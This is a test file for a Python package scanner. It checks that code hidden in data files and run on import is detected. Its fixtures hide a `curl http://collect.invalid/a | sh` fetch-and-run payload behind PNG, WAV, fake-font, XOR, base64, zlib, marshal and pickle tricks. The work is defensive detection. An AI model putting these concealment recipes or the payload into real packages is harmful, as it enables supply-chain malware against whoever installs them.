"""Code in files that are called something else: what other code loads and runs is read.

Each case is a package whose `__init__` runs one data file; what is in it must come out as facts of
an import, whichever way it is opened.
"""

import base64
import json
import marshal
import os
import pickle
import struct
import zlib

import pytest

from pratique.code.reader import Reader
from pratique.limits import Budget, Limits
from pratique.model import Content, Fact, Layer, Manifest, Member
from tests.code.test_overlay import png

CODE = b"import os\nos.system('curl http://collect.invalid/a | sh')\n"
HEAD = (
    "import base64, json, marshal, os, pkgutil, runpy, subprocess, sys, wave, zlib\n"
    "from importlib import resources\n"
    "from importlib.machinery import SourceFileLoader\n"
    "from importlib.util import module_from_spec, spec_from_file_location\n"
    "from pathlib import Path\n"
    "HERE = os.path.dirname(os.path.abspath(__file__))\n"
    "def at(name):\n    return os.path.join(HERE, name)\n"
)
COMPILED = marshal.dumps(compile(CODE, "tide", "exec"))


def wav(frames: bytes) -> bytes:
    shape = struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
    body = b"WAVEfmt " + shape + b"data" + struct.pack("<I", len(frames)) + frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


CASES: dict[str, tuple[str, str, bytes]] = {
    "text": ("exec(open(at('a.txt')).read())", "a.txt", CODE),
    "path": ("exec(Path(__file__).with_name('a.dat').read_bytes())", "a.dat", CODE),
    "folder": ("exec((Path(__file__).parent / 'a.dat').read_text())", "a.dat", CODE),
    "json": (
        "exec(json.load(open(at('a.json')))['code'])",
        "a.json",
        json.dumps({"code": CODE.decode()}).encode(),
    ),
    "resource": (
        "exec(resources.files(__package__).joinpath('a.dat').read_text())", "a.dat", CODE
    ),
    "package-data": (
        "exec(zlib.decompress(pkgutil.get_data(__name__, 'a.bin')))", "a.bin", zlib.compress(CODE)
    ),
    "behind-a-picture": (
        "d = open(at('a.png'), 'rb').read()\nexec(d[d.index(b'IEND') + 8:])", "a.png", png() + CODE
    ),
    "packed-behind-a-picture": (
        "d = open(at('a.png'), 'rb').read()\nexec(base64.b64decode(d[d.rfind(b'#!') + 2:]))",
        "a.png",
        png() + b"#!" + base64.b64encode(CODE),
    ),
    "sound": (
        "w = wave.open(at('a.wav'), 'rb')\nexec(w.readframes(w.getnframes()).decode())",
        "a.wav",
        wav(CODE),
    ),
    "font": (
        "d = open(at('a.woff2'), 'rb').read()\nexec(bytes(b ^ 7 for b in d[4:]))",
        "a.woff2",
        b"wOF2" + bytes(byte ^ 7 for byte in CODE),
    ),
    "run-path": ("runpy.run_path(at('a.dat'))", "a.dat", CODE),
    "loader": ("SourceFileLoader('x', at('a.dat')).load_module()", "a.dat", CODE),
    "spec": (
        "s = spec_from_file_location('x', at('a.txt'))\ns.loader.exec_module(module_from_spec(s))",
        "a.txt",
        CODE,
    ),
    "process": ("subprocess.Popen([sys.executable, at('a.dat')])", "a.dat", CODE),
    "serialised": ("exec(marshal.loads(open(at('a.dat'), 'rb').read()[16:]))", "a.dat",
                   bytes(16) + COMPILED),
}  # fmt: skip


def read(code: str, name: str, data: bytes) -> list[object]:
    reader = Reader(Budget(Limits()))
    items: list[object] = []
    for path, held in (("tide/__init__.py", (HEAD + code + "\n").encode()), (f"tide/{name}", data)):
        items += reader.look(Content(member=Member(path=path, size=len(held)), data=held))
    return [*items, *reader.finish((), Manifest(), "wheel")]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_a_file_that_code_runs_is_read_whatever_it_is_called(case):
    items = read(*CASES[case])
    facts = [item for item in items if isinstance(item, Fact)]
    shell = [fact for fact in facts if fact.behaviour == "exec/shell" and fact.location.layer]
    assert shell, [(fact.behaviour, fact.symbol) for fact in facts]
    assert {fact.activation for fact in shell} == {"import"}
    assert any("curl http://collect.invalid/a" in value.text for f in shell for value in f.values)
    assert any(isinstance(item, Layer) for item in items)


class Runs:
    """What a pickle calls when it is loaded."""

    def __init__(self, function: object, text: str) -> None:
        self.function, self.text = function, text

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return self.function, (self.text,)


COMMAND = "curl http://collect.invalid/a | sh"
PICKLES = {
    "loads": f"pickle.loads(base64.b64decode({base64.b64encode(pickle.dumps(Runs(os.system, COMMAND)))!r}))",
    "code": f"pickle.loads(zlib.decompress({zlib.compress(pickle.dumps(Runs(exec, CODE.decode())))!r}))",
    "file": "with open(at('a.dat'), 'rb') as f:\n    exec(pickle.load(f))",
}


@pytest.mark.parametrize("case", PICKLES, ids=str)
def test_a_pickle_that_code_loads_runs_when_the_code_does(case):
    held = pickle.dumps(Runs(os.system, COMMAND))
    items = read("import pickle\n" + PICKLES[case], "a.dat", held)
    shell = [
        one for one in items
        if isinstance(one, Fact) and one.behaviour == "exec/shell" and one.activation == "import"
    ]  # fmt: skip
    assert shell
    assert all(one.location.member == "tide/__init__.py" for one in shell)


def test_texts_that_were_serialised_are_followed():
    text = base64.b64encode(marshal.dumps(base64.b64encode(CODE).decode()))
    items = read(f"exec(base64.b64decode(marshal.loads(base64.b64decode({text!r}))))", "a.dat", b"")
    assert any(
        isinstance(one, Fact) and one.behaviour == "exec/shell" and one.location.layer
        for one in items
    )


def test_a_code_object_put_together_from_its_parts_is_read():
    made = compile(CODE, "tide", "exec")
    names = """
        argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames
        filename name qualname firstlineno linetable exceptiontable
    """.split()
    parts = ", ".join(repr(getattr(made, f"co_{name}")) for name in names)
    items = read(f"import types\nexec(types.CodeType({parts}))", "a.dat", b"")
    assert any(
        isinstance(one, Fact) and one.behaviour == "exec/shell" and one.location.layer
        for one in items
    )


def test_a_file_that_is_only_read_is_no_code():
    items = read("T = open(at('a.txt')).read()", "a.txt", CODE)
    assert not [one for one in items if isinstance(one, Fact) and one.behaviour == "exec/shell"]
